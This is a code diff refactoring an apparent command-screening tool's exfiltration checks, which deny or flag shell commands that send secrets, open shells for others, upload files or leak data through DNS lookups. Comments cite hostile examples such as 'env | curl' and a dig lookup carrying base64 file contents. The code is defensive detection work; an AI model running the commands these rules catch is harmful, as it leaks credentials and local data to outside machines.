@@ -6,34 +6,16 @@
 #include "decide/check.h"
 #include "decide/names.h"
 #include "decide/network.h"
+#include "decide/origin.h"
 
 namespace husk::decide {
 namespace {
 
 using parse::Command;
-using parse::Piece;
 using parse::Redirect;
 using parse::Word;
 
 constexpr double likely = 0.7;
-
-// One of the commands in front of it in a pipeline satisfies the question.
-template <class Question>
-bool comes_from(const Scene& scene, Question question) {
-    return std::ranges::any_of(scene.survey.feeding(scene.index),
-                               [&](const Command* command) { return question(*command); });
-}
-
-// The same for the commands whose output stands in one of its words.
-template <class Question>
-bool comes_from_words(const Scene& scene, Question question) {
-    return std::ranges::any_of(scene.command.words, [&](const Word& word) {
-        return std::ranges::any_of(word.pieces, [&](const Piece& piece) {
-            return std::ranges::any_of(scene.survey.inside(scene.index, piece),
-                                       [&](const Command* inner) { return question(*inner); });
-        });
-    });
-}
 
 bool reads_content(const Command& command) {
     return is_one_of(command.program(), "cat base64 xxd od tar gzip head tail env printenv");
@@ -56,8 +38,8 @@ std::optional<std::string> secret(const Scene& scene) {
                             [&](const Word& file) { return is_secret(file, scene.context); }) ||
         comes_from_words(scene, is_source) ||
         // Even to a program that seems not to read its standard input: `env | curl` is no accident.
-        (comes_from(scene, is_source) && (sending->standard_input || downloads(scene.command)));
-    return sends_one ? std::optional(scene.command.text) : std::nullopt;
+        (is_piped_from(scene, is_source) && (sending->standard_input || downloads(scene.command)));
+    return found_if(sends_one, scene.command.text);
 }
 
 std::optional<std::string> upload(const Scene& scene) {
@@ -65,8 +47,8 @@ std::optional<std::string> upload(const Scene& scene) {
     if (!sending) return std::nullopt;
     if (!sending->files.empty()) return sending->files.front().shown();
     const bool from_words = comes_from_words(scene, reads_content);
-    const bool piped = sending->standard_input && comes_from(scene, gives_local_data);
-    return from_words || piped ? std::optional(scene.command.text) : std::nullopt;
+    const bool piped = sending->standard_input && is_piped_from(scene, gives_local_data);
+    return found_if(from_words || piped, scene.command.text);
 }
 
 std::optional<std::string> file_transfer(const Scene& scene) {
@@ -75,7 +57,7 @@ std::optional<std::string> file_transfer(const Scene& scene) {
     // sftp host:file fetches it.
     const bool fetches =
         std::ranges::any_of(words, [](const Word& word) { return word.shown().contains(':'); });
-    return words.empty() || fetches ? std::nullopt : std::optional(scene.command.text);
+    return found_if(!words.empty() && !fetches, scene.command.text);
 }
 
 std::optional<std::string> shell_for_others(const Scene& scene) {
@@ -112,39 +94,26 @@ std::optional<std::string> bare_connection(const Scene& scene) {
 // dig "$(base64 < file).example.net": names that carry data.
 std::optional<std::string> name_lookup(const Scene& scene) {
     if (!is_one_of(scene.command.program(), "dig nslookup host drill ping")) return std::nullopt;
-    return comes_from_words(scene, reads_content) ? std::optional(scene.command.text)
-                                                  : std::nullopt;
-}
-
-constexpr Check exfiltration(std::string_view id, Decision decision, std::string_view reason,
-                             std::string_view instead,
-                             std::optional<std::string> (*evidence)(const Scene&)) {
-    return {.id = id,
-            .decision = decision,
-            .severity = Severity::High,
-            .confidence = likely,
-            .reason = reason,
-            .instead = instead,
-            .evidence = evidence};
+    return found_if(comes_from_words(scene, reads_content), scene.command.text);
 }
 
 constexpr std::array checks = {
-    exfiltration("exfiltration/secret", Decision::Deny,
-                 "This sends passwords, keys or the environment to another machine ({}).",
-                 "Leave secrets where they are; ask the user to enter them where they are needed.",
-                 secret),
-    exfiltration("exfiltration/shell", Decision::Deny,
-                 "This lets another machine run commands here ({}).", "", shell_for_others),
-    exfiltration("exfiltration/bare-connection", Decision::Deny,
-                 "This connects the shell itself to another machine ({}).",
-                 "Use curl for what it should fetch.", bare_connection),
-    exfiltration("exfiltration/upload", Decision::Ask,
-                 "This sends local files to another machine ({}).", "", upload),
-    exfiltration("exfiltration/file-transfer", Decision::Ask,
-                 "This can send local files to another machine ({}).", "", file_transfer),
-    exfiltration("exfiltration/name-lookup", Decision::Deny,
-                 "The name that is looked up carries local data to another machine ({}).", "",
-                 name_lookup),
+    Check{"exfiltration/secret", Decision::Deny, Severity::High, likely,
+          "This sends passwords, keys or the environment to another machine ({}).",
+          "Leave secrets where they are; ask the user to enter them where they are needed.",
+          secret},
+    Check{"exfiltration/shell", Decision::Deny, Severity::High, likely,
+          "This lets another machine run commands here ({}).", "", shell_for_others},
+    Check{"exfiltration/bare-connection", Decision::Deny, Severity::High, likely,
+          "This connects the shell itself to another machine ({}).",
+          "Use curl for what it should fetch.", bare_connection},
+    Check{"exfiltration/upload", Decision::Ask, Severity::High, likely,
+          "This sends local files to another machine ({}).", "", upload},
+    Check{"exfiltration/file-transfer", Decision::Ask, Severity::High, likely,
+          "This can send local files to another machine ({}).", "", file_transfer},
+    Check{"exfiltration/name-lookup", Decision::Deny, Severity::High, likely,
+          "The name that is looked up carries local data to another machine ({}).", "",
+          name_lookup},
 };
 
 }  // namespace
